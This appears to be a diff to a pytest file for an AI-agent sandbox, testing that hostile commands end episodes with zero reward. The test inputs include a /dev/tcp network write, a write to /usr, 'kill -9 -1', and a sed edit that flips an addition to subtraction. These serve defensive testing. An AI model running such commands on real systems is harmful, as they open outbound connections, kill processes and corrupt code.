@@ -78,15 +78,16 @@ def test_an_edit_counts_at_the_turn_limit_without_submit():
 
 
 @needs_sandbox
-@pytest.mark.parametrize("command", ["echo x > /usr/evil.txt", "kill -9 -1"])
+@pytest.mark.parametrize("command", ["echo x > /dev/tcp/10.0.0.1/80", "echo x > /usr/evil.txt", "kill -9 -1"])
 def test_hostile_commands_end_the_episode_with_reward_zero(command, tmp_path):
     task = roman_task()
     ep = run_episode(SweEnv(), task, scripted_agent([command, "sed -i 's/n += value/n -= value/' roman.py"]))
-    if command.startswith("echo"):
+    if "/dev/tcp" in command:  # a network attempt, seen by the sandbox's network namespace
         assert ep.end_reason.startswith("hostile") and ep.reward == 0.0 and ep.turns_used == 1
-        assert not os.path.exists("/usr/evil.txt")
-    else:  # killing every process of the sandbox's uid ends that command only; the episode goes on and can pass
+    else:  # a refused write (read-only) or killing every process of the sandbox's uid ends that command only;
+        # the episode goes on and can pass
         assert ep.end_reason == "submitted"
+        assert not os.path.exists("/usr/evil.txt")
     assert run_episode(SweEnv(), task, oracle_agent(task)).passed  # the next episode still works
 
 
